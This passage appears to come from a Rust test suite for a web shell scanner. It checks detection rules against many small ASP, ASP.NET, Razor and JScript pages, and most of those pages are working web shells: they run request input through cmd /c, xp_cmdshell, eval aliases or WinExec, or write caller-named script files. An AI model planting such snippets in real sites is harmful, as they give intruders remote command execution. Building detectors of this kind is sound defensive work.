        "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) { cn.Open();\nvar cmd = new SqlCommand(\"exec master..xp_cmdshell @c\", cn);\ncmd.Parameters.AddWithValue(\"@c\", Request.Form[\"q\"]);\nvar r = cmd.ExecuteReader(); } %>\n",
        "EXRAY_SQL_Shell_Request_Flow",
    );
    let own = "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) { cn.Open();\nvar cmd = new SqlCommand(\"exec master..xp_cmdshell @c\", cn);\ncmd.Parameters.AddWithValue(\"@c\", \"dir D:\\\\backup\");\ncmd.Parameters.AddWithValue(\"@q\", Request.Form[\"q\"]);\nvar r = cmd.ExecuteReader(); } %>\n";
    lacks(own, "EXRAY_SQL_Shell_Request_Flow");
    // a verbatim name spaced from its dot, and the Function constructor reached through a
    // function's constructor
    has(
        "<%@ Page Language=\"C#\" %>\n<% var i = new System.Diagnostics.ProcessStartInfo(\"cmd\", \"/c \" + Request[\"c\"]);\nvar p = System.Diagnostics.Process. @Start(i); %>\n",
        "EXRAY_CS_Verbatim_Identifier_Evasion",
    );
    has(
        "<%@ Page Language=\"JScript\" %>\n<%\nvar f = (function(){}).constructor;\nf(Request.Item[\"z\"])();\n%>\n",
        "EXRAY_JScript_Eval_Alias",
    );
}

/// Stop 30's second read: what it found missed, and what it found tripping.
#[test]
fn stop_30_second_read() {
    // the root kept in a name, the whole path kept in a name, the application's folder by a
    // property, an upload-only page, several declarators in one declaration
    for page in [
        "<%@ Page Language=\"C#\" %>\n<% string root = Server.MapPath(\"/\");\nstring n = Request.Form[\"n\"];\nSystem.IO.File.WriteAllText(root + n, Request.Form[\"c\"]); %>\n",
        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nstring p = Server.MapPath(\"/\") + n;\nSystem.IO.File.WriteAllText(p, Request.Form[\"c\"]); %>\n",
        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nSystem.IO.File.WriteAllText(AppDomain.CurrentDomain.BaseDirectory + n, Request.Form[\"c\"]); %>\n",
        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nif (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(\"/\") + n); %>\n",
        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"], c = Request.Form[\"c\"];\nSystem.IO.File.WriteAllText(System.Web.Hosting.HostingEnvironment.MapPath(\"~/\") + n, c); %>\n",
        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nSystem.IO.File.WriteAllText(string.Concat(Server.MapPath(\"~/\"), n), Request.Form[\"c\"]); %>\n",
        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nSystem.IO.File.WriteAllText(String.Format(\"{0}\\\\{1}\", Request.PhysicalApplicationPath, n), Request.Form[\"c\"]); %>\n",
        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"], root = Server.MapPath(\"/\");\nSystem.IO.File.WriteAllText($\"{root}{n}\", Request.Form[\"c\"]); %>\n",
    ] {
        has(page, "EXRAY_File_Dropper_Flow");
    }
    // a chunk handler that writes into a folder of its own under the root
    let chunks = "<%@ WebHandler Language=\"C#\" Class=\"Up\" %>\nusing System.IO; using System.Web;\npublic class Up : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  string fileName = context.Request[\"name\"];\n  using (var fs = new FileStream(Path.Combine(context.Server.MapPath(\"~/\"), \"App_Data\", \"uploads\", fileName), FileMode.Append)) {\n   context.Request.Files[0].InputStream.CopyTo(fs);\n  }\n }\n public bool IsReusable { get { return false; } }\n}\n";
    lacks(chunks, "EXRAY_File_Dropper_Flow");
    // P/Invoke imports written other ways, called through their class
    has(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nstatic class K {\n [DllImport(\"kernel32.dll\", CharSet = CharSet.Ansi,\n  EntryPoint = \"WinExec\")]\n extern static int Go(string c, int s);\n}\nvoid Page_Load(object s, EventArgs e) { K.Go(\"cmd /c \" + Request[\"x\"], 0); }\n</script>\n",
        "EXRAY_Request_Process_Flow",
    );
    has(
        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nDeclare Function Go Lib \"kernel32\" _\n  Alias \"WinExec\" (ByVal l As String, ByVal s As Integer) As Integer\nSub Page_Load()\n  Go(\"cmd /c \" & Request(\"c\"), 0)\nEnd Sub\n</script>\n",
        "EXRAY_Request_Process_Flow",
    );
    // a workflow page's own CreateProcess method is no process API
    let workflow = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid CreateProcess(string template, string owner) { Workflow.Start(template, owner); }\nvoid Page_Load(object s, EventArgs e) { CreateProcess(Request.Form[\"template\"], User.Identity.Name); }\n</script>\n";
    assert!(hits(workflow).is_empty(), "{:?}", hits(workflow));
    // xp_cmdshell as a stored procedure with its command bound; sp_configure names the option
    has(
        "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) { cn.Open();\nvar cmd = new SqlCommand(\"master..xp_cmdshell\", cn);\ncmd.CommandType = CommandType.StoredProcedure;\ncmd.Parameters.AddWithValue(\"@command_string\", Request.Form[\"q\"]);\ncmd.ExecuteReader(); } %>\n",
        "EXRAY_SQL_Shell_Request_Flow",
    );
    // the command's parameter bound through an object, an initializer, its index, or by
    // position in ADO
    for bind in [
        "var p = new SqlParameter(\"@c\", SqlDbType.NVarChar, 4000);\np.Value = Request.Form[\"q\"];\ncmd.Parameters.Add(p);",
        "cmd.Parameters.Add(new SqlParameter { ParameterName = \"@c\", Value = Request.Form[\"q\"] });",
        "cmd.Parameters.Add(\"@c\", SqlDbType.NVarChar);\ncmd.Parameters[0].Value = Request.Form[\"q\"];",
    ] {
        has(
            &format!("<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) {{ cn.Open();\nvar cmd = new SqlCommand(\"exec master..xp_cmdshell @c\", cn);\n{bind}\ncmd.ExecuteReader(); }} %>\n"),
            "EXRAY_SQL_Shell_Request_Flow",
        );
    }
    has(
        "<%\nSet cmd = Server.CreateObject(\"ADODB.Command\")\ncmd.ActiveConnection = \"Provider=SQLOLEDB;Data Source=.;Integrated Security=SSPI\"\ncmd.CommandText = \"exec master..xp_cmdshell ?\"\ncmd.Parameters.Append cmd.CreateParameter(\"c\", 200, 1, 8000, Request.Form(\"q\"))\nSet rs = cmd.Execute\n%>\n",
        "EXRAY_SQL_Shell_Request_Flow",
    );
    let toggle = "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) { cn.Open();\nvar cmd = new SqlCommand(\"EXEC sp_configure 'xp_cmdshell', @v; RECONFIGURE\", cn);\ncmd.Parameters.AddWithValue(\"@v\", Request.Form[\"on\"] == \"1\" ? 1 : 0);\ncmd.ExecuteNonQuery(); } %>\n";
    lacks(toggle, "EXRAY_SQL_Shell_Request_Flow");
    // uploads of settings and a name cleaned of a script extension are data
    for page in [
        "<%@ Page Language=\"C#\" %>\n<% if (fu.HasFile) fu.SaveAs(Server.MapPath(\"~/App_Data/sitesettings.config\")); %>\n",
        "<%@ Page Language=\"C#\" %>\n<% if (fu.HasFile) fu.SaveAs(Server.MapPath(\"~/up/\") + fu.FileName.Replace(\".aspx\", \".txt\")); %>\n",
    ] {
        assert!(
            !hits(page).contains("EXRAY_Upload_Saved_As_Script"),
            "{page}: {:?}",
            hits(page)
        );
    }
    has(
        "<%@ Page Language=\"C#\" %>\n<% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(\"~/help.aspx::$DATA\")); %>\n",
        "EXRAY_Upload_Saved_As_Script",
    );
    // a type test is no alias
    let test = "<script language=\"javascript\" runat=\"server\">\nfunction kind(v) { switch (v.constructor) { case Array: return 1; } return v.constructor == Date ? 2 : 0; }\nvar k = kind(Request.Cookies(\"k\"));\n</script>\n";
    lacks(test, "EXRAY_JScript_Eval_Alias");
    // a built-in function's constructor kept in a name; a line comment opening the next block
    has(
        "<%@ Page Language=\"JScript\" %>\n<%\nvar f = parseInt.constructor;\nf(Request.Item[\"z\"])();\n%>\n",
        "EXRAY_JScript_Eval_Alias",
    );
    assert!(
        hits("<%@ Page Language=\"JScript\" %>\n<%eval%>\n<%\t// go\n(Request.Item[\"p\"],\"unsafe\");%>\n")
            .iter()
            .any(|r| r.contains("Eval")),
        "split over a commented block"
    );
}

/// Stop 29: XSLT stylesheets, SQL Server command shells, verbatim identifiers, Razor pages, and
/// the raw body copied into a file the request names.
#[test]
fn stop_29_new_kinds() {
    // .NET: a reader on the caller's text, scripts enabled
    has(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string x = Request.Form[\"xsl\"];\n XslCompiledTransform t = new XslCompiledTransform();\n t.Load(XmlReader.Create(new StringReader(x)), new XsltSettings(true, true), new XmlUrlResolver());\n t.Transform(XmlReader.Create(new StringReader(\"<r/>\")), null, Response.Output);\n}\n</script>\n",
        "EXRAY_XSLT_Request_Stylesheet",
    );
    // not without scripts, nor a stylesheet of the site's own chosen by name
    let own = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n XslCompiledTransform t = new XslCompiledTransform();\n t.Load(Server.MapPath(\"~/xsl/\" + Request[\"view\"] + \".xsl\"), new XsltSettings(false, true), null);\n t.Transform(Server.MapPath(\"~/data.xml\"), null, Response.Output);\n}\n</script>\n";
    lacks(own, "EXRAY_XSLT_Request_Stylesheet");
    let no_script = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n XslCompiledTransform t = new XslCompiledTransform();\n t.Load(XmlReader.Create(new StringReader(Request.Form[\"xsl\"])));\n t.Transform(XmlReader.Create(new StringReader(\"<r/>\")), null, Response.Output);\n}\n</script>\n";
    lacks(no_script, "EXRAY_XSLT_Request_Stylesheet");
    // the request's body loaded as the data, the stylesheet the site's own: a report
    let report = "<%\nSet xml = Server.CreateObject(\"MSXML2.DOMDocument\")\nxml.loadXML Request.Form(\"data\")\nSet xsl = Server.CreateObject(\"MSXML2.DOMDocument\")\nxsl.load \"C:\\inetpub\\xsl\\r.xsl\"\nResponse.Write xml.transformNode(xsl)\n%>\n";
    lacks(report, "EXRAY_XSLT_Request_Stylesheet");
    // sp_OACreate through a command object of C#
    has(
        "<%@ Page Language=\"C#\" %>\n<% string c = Request[\"c\"];\nusing (var cn = new SqlConnection(cs)) { cn.Open();\n new SqlCommand(\"declare @s int; exec sp_oacreate 'wscript.shell', @s out; exec sp_oamethod @s, 'run', null, '\" + c + \"'\", cn).ExecuteNonQuery(); } %>\n",
        "EXRAY_SQL_Shell_Request_Flow",
    );
    // a fixed maintenance command is no shell
    let fixed = "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(cs)) { cn.Open();\n new SqlCommand(\"exec master..xp_cmdshell 'dir D:\\\\backup'\", cn).ExecuteNonQuery(); }\nResponse.Write(Server.HtmlEncode(Request[\"q\"])); %>\n";
    lacks(fixed, "EXRAY_SQL_Shell_Request_Flow");
    // a Razor page starting the caller's command
    has(
        "@using System.Diagnostics\n@{\n    var c = Request[\"c\"];\n    var p = Process.Start(new ProcessStartInfo(\"cmd.exe\", \"/c \" + c) { UseShellExecute = false, RedirectStandardOutput = true });\n}\n<pre>@p.StandardOutput.ReadToEnd()</pre>\n",
        "EXRAY_Request_Process_Flow",
    );
    // the Function constructor under another name, and eval kept in a name with the request
    has(
        "<%@ Language=\"JScript\" %>\n<%\nvar F = Function;\nvar c = String(Request.Form(\"c\"));\n(new F(c))();\n%>\n",
        "EXRAY_JScript_Eval_Alias",
    );
    has(
        "<%@ Page Language=\"JScript\" %>\n<script runat=\"server\">\nvar run = eval;\nfunction Page_Load() {\n  var req = HttpContext.Current.Request;\n  run(req.Form[\"d\"], \"unsafe\");\n}\n</script>\n",
        "EXRAY_JScript_Eval_Alias",
    );
    // a name in the page's own script (VBScript takes them on a Chinese server)
    let named = "<%@ LANGUAGE=\"VBSCRIPT\" CODEPAGE=\"65001\" %>\n<%\n密码 = Request(\"中\")\nExecute(密码)\n%>\n";
    assert!(
        hits(named)
            .iter()
            .any(|r| r.contains("Execute") || r.contains("Eval")),
        "{:?}",
        hits(named)
    );
    // a component's command method fed by the query, and kernel32's WinExec
    has(
        "<% Set t=Server.CreateObject(\"vendor.draw\"):t.RemoteWinExec Request.QueryString(\"p\"),Request.QueryString(\"c\"):Response.Write \"Done.\"%>\n",
        "EXRAY_Request_Process_Flow",
    );
    has(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"kernel32\")] static extern uint WinExec(string c, uint s);\nvoid Page_Load(object o, EventArgs e) { WinExec(Request[\"c\"], 0); }\n</script>\n",
        "EXRAY_Request_Process_Flow",
    );
    // not a component's method the page calls with its own settings
    let own = "<% Set t=Server.CreateObject(\"vendor.draw\")\nt.RemoteWinExec \"\\\\srv\\share\\report.exe\", \"\"\nResponse.Write Server.HTMLEncode(Request(\"q\"))%>\n";
    lacks(own, "EXRAY_Request_Process_Flow");
    // a code-behind class and an App_Code module, which have no page markup of their own
    has(
        "using System;\nusing System.Diagnostics;\npublic partial class ErrorPage : System.Web.UI.Page {\n protected void Page_Load(object sender, EventArgs e) {\n  string c = Request.Headers[\"X-Err\"];\n  var psi = new ProcessStartInfo(\"cmd.exe\", \"/c \" + c);\n  Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());\n }\n}\n",
        "EXRAY_Request_Process_Flow",
    );
    has(
        "using System.Web;\nusing System.Diagnostics;\npublic class M : IHttpModule {\n public void Init(HttpApplication app) { app.BeginRequest += (s, e) => {\n  var ctx = ((HttpApplication)s).Context;\n  string c = ctx.Request.Headers[\"X-Tel\"];\n  if (c != null) ctx.Response.Write(Process.Start(new ProcessStartInfo(\"cmd.exe\", \"/c \" + c)).StandardOutput.ReadToEnd());\n }; }\n public void Dispose() { }\n}\n",
        "EXRAY_Request_Process_Flow",
    );
    // not a code-behind that starts its own tool
    let tool = "using System.Diagnostics;\npublic partial class Report : System.Web.UI.Page {\n protected void Page_Load(object s, System.EventArgs e) {\n  Process.Start(Server.MapPath(\"~/bin/render.exe\"), \"--all\");\n  Response.Write(Server.HtmlEncode(Request[\"q\"]));\n }\n}\n";
    assert!(hits(tool).is_empty(), "{:?}", hits(tool));
    // the request object kept whole in a name of its own
    has(
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Diagnostics; using System.Web;\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  HttpRequest req = context.Request;\n  string x = req.Form[\"c\"];\n  Process.Start(\"cmd.exe\", \"/c \" + x);\n }\n public bool IsReusable { get { return false; } }\n}\n",
        "EXRAY_Request_Process_Flow",
    );
    // (a comment that ends on the word is no request)
    let said = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Diagnostics; using System.Web;\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  string x = Settings.Tool; // run for each request\n  Process.Start(\"tool.exe\", x);\n  context.Response.Write(context.Request.QueryString[\"q\"] != null);\n }\n public bool IsReusable { get { return false; } }\n}\n";
    lacks(said, "EXRAY_Request_Process_Flow");
    // stop 29's second read: the raw body as the stylesheet, an XSLTemplate's stylesheet, a
    // reader kept in a name, settings given by name
    has(
        "<%\nSet xml = Server.CreateObject(\"MSXML2.DOMDocument\")\nxml.loadXML \"<r/>\"\nSet xsl = Server.CreateObject(\"MSXML2.DOMDocument\")\nxsl.load Request\nResponse.Write xml.transformNode(xsl.documentElement)\n%>\n",
        "EXRAY_XSLT_Request_Stylesheet",
    );
    has(
        "<%\nSet sty = Server.CreateObject(\"MSXML2.FreeThreadedDOMDocument\")\nsty.loadXML Request.Form(\"s\")\nSet tpl = Server.CreateObject(\"MSXML2.XSLTemplate\")\nSet tpl.stylesheet = sty\nSet p = tpl.createProcessor()\np.input = Server.CreateObject(\"MSXML2.DOMDocument\")\np.transform\nResponse.Write p.output\n%>\n",
        "EXRAY_XSLT_Request_Stylesheet",
    );
    has(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nstatic readonly XslCompiledTransform T = new XslCompiledTransform();\nvoid Page_Load(object s, EventArgs e) {\n var r = XmlReader.Create(Request.InputStream);\n T.Load(r, new XsltSettings(enableDocumentFunction: false, enableScript: true), null);\n T.Transform(XmlReader.Create(new StringReader(\"<r/>\")), null, Response.Output);\n}\n</script>\n",
        "EXRAY_XSLT_Request_Stylesheet",
    );
    // a report page that picks its own stylesheet by a name from the request
    let report = "<%\nview = Request(\"view\")\nSet xml = Server.CreateObject(\"MSXML2.DOMDocument\")\nxml.load Server.MapPath(\"data.xml\")\nSet xsl = Server.CreateObject(\"MSXML2.DOMDocument\")\np = XSL_DIR & \"report-\" & view & \".xsl\"\nxsl.load p\nResponse.Write xml.transformNode(xsl)\n%>\n";
    lacks(report, "EXRAY_XSLT_Request_Stylesheet");
    // xp_cmdshell continued on the next line, and a command's text set in its initializer
    has(
        "<%\nSet cn = Server.CreateObject(\"ADODB.Connection\")\ncn.Open \"Provider=SQLOLEDB;Data Source=.;Integrated Security=SSPI\"\nc = Request(\"c\")\nsql = \"exec master.dbo.xp_cmdshell \"\nsql = sql & \"'\" & c & \"'\"\nSet rs = cn.Execute(sql)\n%>\n",
        "EXRAY_SQL_Shell_Request_Flow",
    );
    has(
        "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(cs)) { cn.Open();\n var k = new SqlCommand { Connection = cn, CommandText = \"exec xp_cmdshell '\" + Request[\"c\"] + \"'\" };\n k.ExecuteNonQuery(); } %>\n",
        "EXRAY_SQL_Shell_Request_Flow",
    );
    // a type compared with Function is no alias; a Razor `new @X` is markup and an expression
    let typed = "<%@ Language=\"JScript\" %>\n<%\nvar v = Request.Form(\"v\");\nvar isFn = v.constructor === Function;\nResponse.Write(isFn);\n%>\n";
    lacks(typed, "EXRAY_JScript_Eval_Alias");
    let razor =
        "@using System.Linq\n@{ var p = Model.Current; }\n<h3>Start new @Process.Title</h3>\n";
    assert!(hits(razor).is_empty(), "{:?}", hits(razor));
    // the body kept in a name, then copied into a file the query names
    has(
        "<%@ WebHandler Language=\"C#\" Class=\"Up\" %>\nusing System.Web; using System.IO;\npublic class Up : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n  Stream body = c.Request.GetBufferlessInputStream();\n  using (var fs = File.Create(c.Request.QueryString[\"p\"])) { body.CopyTo(fs); }\n }\n public bool IsReusable { get { return false; } }\n}\n",
        "EXRAY_File_Dropper_Flow",
    );
    // a function named in the page's code page
    has(
        "<%\nFunction 执行(代码)\n Execute 代码\nEnd Function\n执行 Request(\"x\")\n%>\n",
        "EXRAY_Eval_Request_Flow",
    );
    // a code-behind on the application's own base page
    has(
        "using System.Diagnostics;\npublic partial class Tools : BasePage {\n protected void Page_Load(object s, System.EventArgs e) {\n  Process.Start(\"cmd.exe\", \"/c \" + Request.QueryString[\"c\"]);\n }\n}\n",
        "EXRAY_Request_Process_Flow",
    );
    // the raw body copied into a file under the site's root that the query names
    has(
        "<%@ WebHandler Language=\"C#\" Class=\"Up\" %>\nusing System.Web;\nusing System.IO;\npublic class Up : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n  string name = c.Request.QueryString[\"name\"];\n  using (FileStream fs = new FileStream(c.Server.MapPath(\"~/\" + name), FileMode.Create)) {\n   c.Request.InputStream.CopyTo(fs);\n  }\n }\n public bool IsReusable { get { return false; } }\n}\n",
        "EXRAY_File_Dropper_Flow",
    );
}

#[test]
fn stop_31_reads_and_tables() {
    // a Path.Combine of more parts: an empty middle part, an array, every part the caller's
    for page in [
        r#"<%@ Page Language="C#" %>
<% string n = Request.Form["n"];
System.IO.File.WriteAllText(System.IO.Path.Combine(Server.MapPath("~/"), "", n), Request.Form["c"]); %>
"#,
        r#"<%@ Page Language="C#" %>
<% string n = Request.Form["n"];
System.IO.File.WriteAllText(System.IO.Path.Combine(new[] { Server.MapPath("~/"), n }), Request.Form["c"]); %>
"#,
        r#"<%@ Page Language="C#" %>
<% System.IO.File.WriteAllText(System.IO.Path.Combine(Server.MapPath("~/"), Request["d"], Request["n"]), Request["c"]); %>
"#,
    ] {
        has(page, "EXRAY_File_Dropper_Flow");
    }
    // a folder of the application's own between the root and the caller's name
    lacks(
        r#"<%@ Page Language="C#" %>
<% System.IO.File.WriteAllText(System.IO.Path.Combine(Server.MapPath("~/"), "App_Data", Request["n"]), Request["c"]); %>
"#,
        "EXRAY_File_Dropper_Flow",
    );
    // an upload's bytes read into a buffer and written as a page; a buffer the page reads from
    // its own file is not the caller's
    has(
        r#"<%@ Page Language="C#" %><%if (Request.Files.Count!=0) { var f = Request.Files[0]; var b = new byte[f.ContentLength]; f.InputStream.Read(b, 0, b.Length); System.IO.File.WriteAllBytes(Server.MapPath("./help.aspx"), b); }%>"#,
        "EXRAY_File_Dropper_Flow",
    );
    lacks(
        r#"<%@ Page Language="C#" %><%if (Request.Form["go"] != null) { var s = System.IO.File.OpenRead(Server.MapPath("~/App_Data/t.bin")); var b = new byte[s.Length]; s.Read(b, 0, b.Length); System.IO.File.WriteAllBytes(Server.MapPath("./help.aspx"), b); }%>"#,
        "EXRAY_File_Dropper_Flow",
    );
    // ShellExecuteEx with its command in the structure's fields
    has(
        r#"<%@ Page Language="C#" %>
<script runat="server">
public struct SEI { public int cbSize; public string lpVerb; public string lpFile; public string lpParameters; }
[DllImport("shell32.dll")] static extern bool ShellExecuteEx(ref SEI i);
void Page_Load(object s, EventArgs e) {
  SEI i = new SEI(); i.lpVerb = "open"; i.lpFile = "cmd.exe";
  i.lpParameters = "/c " + Request["x"];
  ShellExecuteEx(ref i);
}
</script>
"#,
        "EXRAY_Request_Process_Flow",
    );
    // a variable of the statement set from the bound parameter
    has(
        r#"<%@ Page Language="C#" %>
<% using (var cn = new SqlConnection("server=.;integrated security=true")) { cn.Open();
var cmd = new SqlCommand("declare @x nvarchar(4000) set @x = @c exec master..xp_cmdshell @x", cn);
cmd.Parameters.AddWithValue("@c", Request.Form["q"]);
var r = cmd.ExecuteReader(); } %>
"#,
        "EXRAY_SQL_Shell_Request_Flow",
    );
    // a program the page names, given the caller's text as arguments only, is no shell; an
    // interpreter given it is
    lacks(
        r#"<%@ Page Language="C#" %>
<% System.Diagnostics.Process.Start("IExplore.exe", "http://localhost/app/run.aspx?user=" + Request["u"]); %>
"#,
        "EXRAY_Request_Process_Flow",
    );
    has(
        r#"<%@ Page Language="C#" %>
<% System.Diagnostics.Process.Start(@"C:\Windows\System32\cmd.exe", "/c " + Request["u"]); %>
"#,
        "EXRAY_Request_Process_Flow",
    );
    // and so is a tool in a folder of the site given the caller's arguments
    has(
        r#"<%@ Page Language="C#" %>
<% System.Diagnostics.Process.Start(@"C:\inetpub\wwwroot\up\p.exe", Request["a"]); %>
"#,
        "EXRAY_Request_Process_Flow",
    );
    // a session value stored under a key computed two calls deep, then executed
    has(
        "<%\nFunction k(a)\nDim s, i\nFor i = LBound(a) To UBound(a)\ns = s & Chr(a(i))\nNext\nk = s\nEnd Function\nc = Request.Form(\"p\")\nSession(k(Array(112,97))) = c\nExecute(Session(k(Array(112,97))))\n%>\n",
        "EXRAY_Eval_Request_Flow",
    );
    // a procedure's argument read as the whole request value it is
    has(
        r#"<%@ Page Language="C#" %>
<script runat="server">
void Show(string p, int n) { Response.Write(System.IO.File.ReadAllText(p)); }
void Page_Load(object s, EventArgs e) { Show(Request["f"], 1); }
</script>
"#,
        "EXRAY_File_Op_Request_Path",
    );
    // the Script Encoder's markers quoted around a few characters by a scanner's signature
    // list: nothing is encoded
    lacks(
        "<%\n'[%#@~^bgEAAA==...@#@&E3EAAA==^#~@%]\nsig = \"#@~^\"\n%>\n",
        "EXRAY_ASP_Script_Encoded",
    );
    // an injection filter's list of refused words
    lacks(
        "<%\nk = \"exec xp_|and = '|execute request(|cmd.exe /c request|script /script|\"\nIf InStr(LCase(Request.QueryString), \"xp_\") > 0 Then Response.End\n%>\n",
        "EXRAY_Eval_Request_Direct",
    );
    // a page carrying its site's file helpers unused writes no request-named file
    lacks(
        "<%\nHTB = Trim(Request(\"HTB\"))\ndevN = Trim(Request(\"dev\"))\nResponse.Write HTB & devN\nSUB WriteAllTextFile(sfln, s)\n  Set fso = CreateObject(\"Scripting.FileSystemObject\")\n  Set f = fso.OpenTextFile(Server.MapPath(sfln), 2, True)\n  f.WriteLine s\n  f.Close\nEnd SUB\n%>\n",
        "EXRAY_File_Writer_Variable_Path",
    );
    // an upload recorded as a record's attachment in the application's database
    lacks(
        r#"<%@ Page Language="VB" %>
<script runat="server">
Sub Save(sender As Object, e As EventArgs)
  Dim file As HttpPostedFile = FileUp.PostedFile
  file.SaveAs(Server.MapPath("data/") & file.FileName)
  Dim Conn As New OleDbConnection("Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath("db.mdb"))
  Conn.Open()
End Sub
</script>
"#,
        "EXRAY_Upload_Unchecked_Name",
    );
    // an installer's component table names the objects, each beside its library
    lacks(
        "<%\nDim t(3)\nt(0) = array(\"WScript.Shell\",\"wshom.ocx\",\"danger\")\nt(1) = array(\"Shell.Application\",\"shell32.dll\",\"danger\")\nt(2) = array(\"WScript.Network\",\"wshom.ocx\",\"danger\")\nt(3) = array(\"ADODB.Stream\",\"scrrun.dll\",\"\")\n%>\n",
        "EXRAY_Shell_Toolkit",
    );
    // WScript.Shell made only to read the environment, beside a regular expression's exec
    lacks(
        "<%\nfunction envVar(byVal name)\n  with createObject(\"WScript.Shell\")\n    envVar = .expandEnvironmentStrings(name)\n  end with\nend function\nResponse.Write envVar(Request.QueryString(\"v\"))\n%>\n<script language=\"javascript\" runat=\"server\">\nfunction m(re, s) { return re.exec(s); }\n</script>\n",
        "EXRAY_ASP_WScript_Shell_Exec",
    );
}
